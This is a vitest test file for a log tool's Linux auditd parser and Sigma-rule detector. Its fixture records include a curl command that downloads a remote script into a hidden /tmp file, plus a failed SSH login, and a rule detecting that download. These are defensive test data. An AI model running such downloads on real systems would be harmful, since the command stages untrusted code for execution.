import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { eventSchema } from '../../../core/index.js';
import { createDetector, loadRules } from '../../../detect/index.js';
import { collectAll } from '../../collect-all.js';
import { auditFields, auditText } from './linux-audit.js';

const hex = (text: string) => Buffer.from(text, 'utf8').toString('hex').toUpperCase();

// Written from the auditd record format (audit.rules(7), ausearch --raw): one audit event is several
// records sharing `msg=audit(seconds.millis:serial)`, SYSCALL first; untrusted strings are
// "quoted", or hex-encoded when they hold a space, a quote or a control character.
const lines = [
  'type=SYSCALL msg=audit(1709373600.120:5120): arch=c000003e syscall=59 success=yes exit=0 a0=55d0 a1=55d1 a2=55d2 a3=0 items=2 ppid=2211 pid=2290 auid=1001 uid=1001 gid=1001 euid=1001 tty=pts1 ses=7 comm="curl" exe="/usr/bin/curl" key="net-tools"',
  `type=EXECVE msg=audit(1709373600.120:5120): argc=4 a0="curl" a1="-o" a2="/tmp/.x" a3=${hex('http://203.0.113.7/a b.sh')}`,
  'type=CWD msg=audit(1709373600.120:5120): cwd="/home/dev"',
  'type=PATH msg=audit(1709373600.120:5120): item=0 name="/usr/bin/curl" inode=41 dev=08:01 mode=0100755 ouid=0 ogid=0 nametype=NORMAL',
  `type=PROCTITLE msg=audit(1709373600.120:5120): proctitle=${hex('curl\u0000-o\u0000/tmp/.x')}`,
  `node=db02 type=USER_CMD msg=audit(1709373660.004:5188): pid=2301 uid=1001 auid=1001 ses=7 msg='cwd="/home/dev" cmd=${hex('systemctl restart nginx')} exe="/usr/bin/sudo" terminal=pts/1 res=success'`,
  'node=db02 type=USER_AUTH msg=audit(1709373700.500:5190): pid=2400 uid=0 auid=4294967295 ses=4294967295 msg=\'op=PAM:authentication grantors=? acct="oracle" exe="/usr/sbin/sshd" hostname=198.51.100.4 addr=198.51.100.4 terminal=ssh res=failed\'',
  'Mar  2 10:00:00 db02 sshd[1]: not an audit record',
];

describe('Linux audit logs', () => {
  it('reads each record with its audit fields, and an EXECVE as a process start completed from its SYSCALL record', async () => {
    const directory = mkdtempSync(join(tmpdir(), 'vigil-audit-'));
    writeFileSync(join(directory, 'audit.log'), `${lines.join('\n')}\n`);
    const { events, rejected } = await collectAll([join(directory, 'audit.log')]);
    expect(rejected).toEqual([
      { file: join(directory, 'audit.log'), line: 8, reason: expect.stringContaining('Linux audit record') },
    ]);
    expect(events).toHaveLength(7);
    for (const event of events) {
      expect(eventSchema.safeParse(event).success).toBe(true);
      expect(event.origin).toMatchObject({ format: 'syslog', dataset: 'auditd' });
    }
    const [syscall, execve, cwd, path, title, sudo, auth] = events;
    expect(syscall).toMatchObject({
      timestamp: '2024-03-02T10:00:00.120Z',
      code: 'SYSCALL',
      outcome: 'success',
      process: { pid: 2290, name: 'curl', executable: '/usr/bin/curl', parent: { pid: 2211 } },
      user: { id: '1001' },
      fields: { type: 'SYSCALL', syscall: '59', key: 'net-tools', a0: '55d0' },
    });
    expect(execve).toMatchObject({
      category: ['process'],
      action: 'process-started',
      process: {
        pid: 2290,
        executable: '/usr/bin/curl',
        parent: { pid: 2211 },
        commandLine: 'curl -o /tmp/.x "http://203.0.113.7/a b.sh"',
      },
      fields: { type: 'EXECVE', a0: 'curl', a3: 'http://203.0.113.7/a b.sh' },
    });
    expect(cwd?.fields.cwd).toBe('/home/dev');
    expect(path).toMatchObject({ file: { path: '/usr/bin/curl', name: 'curl' } });
    expect(title?.fields.proctitle).toBe('curl -o /tmp/.x');
    expect(sudo).toMatchObject({
      host: { name: 'db02' },
      process: { commandLine: 'systemctl restart nginx', executable: '/usr/bin/sudo' },
      outcome: 'success',
    });
    expect(auth).toMatchObject({
      category: ['authentication'],
      outcome: 'failure',
      user: { name: 'oracle' },
      source: { ip: '198.51.100.4' },
    });
    expect(auth?.fields.auid).toBe('4294967295');
  });

  it('feeds the Sigma linux auditd rules their own field names', async () => {
    const directory = mkdtempSync(join(tmpdir(), 'vigil-audit-rule-'));
    writeFileSync(join(directory, 'audit.log'), `${lines.slice(0, 5).join('\n')}\n`);
    writeFileSync(
      join(directory, 'rule.yml'),
      `title: Download to a hidden file in /tmp
id: 5b1d7c2a-0000-4000-8000-00000000a0d1
logsource: { product: linux, service: auditd }
detection:
  selection:
    type: EXECVE
    a0: curl
    a2|startswith: '/tmp/.'
  condition: selection
tags: [attack.command-and-control, attack.t1105]
`,
    );
    const { events } = await collectAll([join(directory, 'audit.log')]);
    const detector = createDetector(await loadRules([join(directory, 'rule.yml')]));
    const alerts = events.flatMap((event) => detector.process(event));
    expect(alerts.map((alert) => alert.eventIds[0])).toEqual([events[1]?.id]);
  });

  it('decodes only what auditd encodes, and bounds the fields of a line', () => {
    expect(auditText(hex('ls -la'), false)).toBe('ls -la');
    expect(auditText('ABCD', true)).toBe('ABCD');
    expect(auditText('not-hex', false)).toBe('not-hex');
    expect(auditText('(null)', false)).toBeUndefined();
    expect(auditFields(`msg='op=login acct="root" res=failed' pid=1`)).toMatchObject({
      op: 'login',
      acct: 'root',
      res: 'failed',
      pid: '1',
    });
    const many = Array.from({ length: 5_000 }, (_, index) => `k${index}=v`).join(' ');
    expect(Object.keys(auditFields(many)).length).toBe(200);
  });
});
